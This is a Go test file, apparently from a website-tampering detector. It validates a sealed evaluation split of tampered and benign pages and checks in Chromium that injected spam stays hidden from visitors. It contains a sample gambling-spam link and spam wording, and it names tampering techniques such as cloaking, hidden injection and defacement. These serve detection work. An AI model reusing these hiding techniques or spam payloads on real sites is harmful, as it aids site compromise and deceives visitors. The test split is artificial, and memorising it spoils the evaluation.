// TestSealed6SplitWellFormed checks the split without running the
// detector: nothing reused from the other splits, every case labelled,
// the label counts, every page parses and names its site, spam in every
// tampered page (or its spider copy), none in a cloaked page's browser
// copy, and no spam host (nor spam word, but in the fraud-warning news)
// in any benign page.
func TestSealed6SplitWellFormed(t *testing.T) {
	checkSplitDistinct(t, genSealed6, sealed6Others(), true)
	checkBenignNew(t, names(sealed6Benign, func(b sealed6Change) string { return b.name }), names(sealed2Benign, sealed2ChangeName))

	cases := sealed6Cases()
	labelled := map[string]int{}
	perTech := map[string]int{}
	benign, common, tampered := 0, 0, 0
	seen := map[string]bool{}
	for _, c := range cases {
		key := c.site + " " + c.name
		if seen[key] {
			t.Errorf("%s: two cases", key)
		}
		seen[key] = true
		checkSplitPage(t, key, c.html, c.baselineFor.name)
		checkSplitPage(t, key, c.spider, c.baselineFor.name)
		if len(c.kinds) == 0 {
			benign++
			checkBenignFree(t, key, c.html, genSealed6.hosts)
			if quotes := sealed6HasSpam(string(c.html)); quotes != (c.name == "fraud-warning-news") {
				t.Errorf("%s: benign page holds spam wording: %v (only the fraud-warning news quotes it)", key, quotes)
			}
			continue
		}
		tampered++
		tq, ok := sealed6TechniqueOf(c.name)
		if !ok {
			t.Errorf("%s: no technique", key)
			continue
		}
		perTech[tq.name]++
		if tq.common {
			common++
		}
		for _, k := range c.kinds {
			labelled[k]++
		}
		if tq.class == sealed6Deface {
			if strings.Contains(string(c.html), "网站标识码") || !strings.Contains(string(c.html), "Hacked") {
				t.Errorf("%s: the defaced page is not a replacement page", key)
			}
			continue
		}
		if !sealed6HasSpam(string(c.html) + string(c.spider)) {
			t.Errorf("%s: tampered page holds none of the split's spam hosts or words", key)
		}
		if c.spider != nil && sealed6HasSpam(string(c.html)) {
			t.Errorf("%s: cloaking case whose browser copy holds the spam", key)
		}
		if c.spider == nil && (tq.class == sealed6Cloak || tq.class == sealed6CloakTitle) {
			t.Errorf("%s: cloaking case without a spider copy", key)
		}
	}
	checkSplitLabels(t, labelled, sealed6Labels, true)
	if benign != sealed6BenignPages || len(sealed6Benign) != 12 {
		t.Errorf("%d benign pages from %d changes, want %d from 12", benign, len(sealed6Benign), sealed6BenignPages)
	}
	for _, tq := range sealed6Techniques {
		if perTech[tq.name] != tq.n*len(genSealed6.sites) {
			t.Errorf("technique %s: %d cases, want %d per site", tq.name, perTech[tq.name], tq.n)
		}
	}
	t.Logf("sealed6 split: %d cases (%d tampered, %d of them the most common forms, %.0f%%; %d benign), labels %v",
		len(cases), tampered, common, 100*float64(common)/float64(tampered), benign, labelled)
}

// sealed6NotChecked are the technique classes the browser check leaves
// out: spam shown on purpose (the nav items, the defacement) and external
// scripts, whose effect lives on the spam host.
var sealed6NotChecked = map[int]bool{sealed6Visible: true, sealed6Deface: true, sealed6Script: true}

// sealed6ExtPage is what the browser check serves in place of a spam
// host's page: visible spam, so that a frame that shows changes pixels
// when its text is rotated.
const sealed6ExtPage = `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="background:#fff"><p style="font-size:20px"><a href="http://www.xhtd-yule8.com/">新濠天地真人娱乐</a> 幸运28预测 花呗套现当天到账</p></body></html>`

// TestSealed6SplitHiddenInChromium checks, without the detector, that
// every tampered page of the split hides its payload from a visitor, as
// TestSealed2SplitHiddenInChromium does: screenshot, rotate the spam
// texts in place (also in same-origin frames), screenshot again, and the
// two must not differ; a control page with the payload visible must
// differ. Frames and scripts that load a spam host load a loopback page
// instead (the test never leaves the machine). It runs only with
// FENGHUO_TAMPER_BROWSER=1 and a Chromium.
func TestSealed6SplitHiddenInChromium(t *testing.T) {
	if os.Getenv("FENGHUO_TAMPER_BROWSER") != "1" {
		t.Skip("set FENGHUO_TAMPER_BROWSER=1 (and FENGHUO_TEST_CHROMIUM) to check in Chromium that the sealed6 split hides its payloads")
	}
	path := sealedChromium()
	if path == "" {
		t.Skip("no Chromium: set FENGHUO_TEST_CHROMIUM")
	}
	var pages []sealedPage
	for _, c := range sealed6Cases() {
		if len(c.kinds) == 0 {
			continue
		}
		if tq, _ := sealed6TechniqueOf(c.name); sealed6NotChecked[tq.class] {
			continue
		}
		pages = append(pages, sealedPage{c.site + " " + c.name, c.html})
	}
	s := genSealed6.sites[0]
	pages = append(pages, sealedPage{"control", []byte(s.tmpl(s, 99, inject{foot: `<div><a href="http://www.xhtd-yule8.com/">新濠天地真人娱乐</a> 幸运28预测</div>`}))})
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		if strings.HasPrefix(r.URL.Path, "/ext/") {
			w.Write([]byte(sealed6ExtPage))
			return
		}
		var i int
		if _, err := fmt.Sscanf(r.URL.Path, "/p/%d", &i); err != nil || i < 0 || i >= len(pages) {
			http.NotFound(w, r)
			return
		}
		body := string(pages[i].html)
		for _, h := range genSealed6.hosts {
			for _, scheme := range []string{"http://", "https://", "//"} {
				body = strings.ReplaceAll(body, `src="`+scheme+h+`/`, `src="http://`+r.Host+`/ext/`)
			}
		}
		w.Write([]byte(body))
	}))
	defer srv.Close()
	shown, checked, untouched := sealedPayloadsShown(t, path, srv.URL, pages, genSealed6, 20*time.Minute)
	t.Logf("sealed6 split in Chromium: %d of %d tampered pages show their payload (left out: visible-nav-spam, defacement, external-script); %d had no spam text in the rendered document to rotate (redirects, cloaked pages' browser copies)",
		shown, checked, untouched)
}
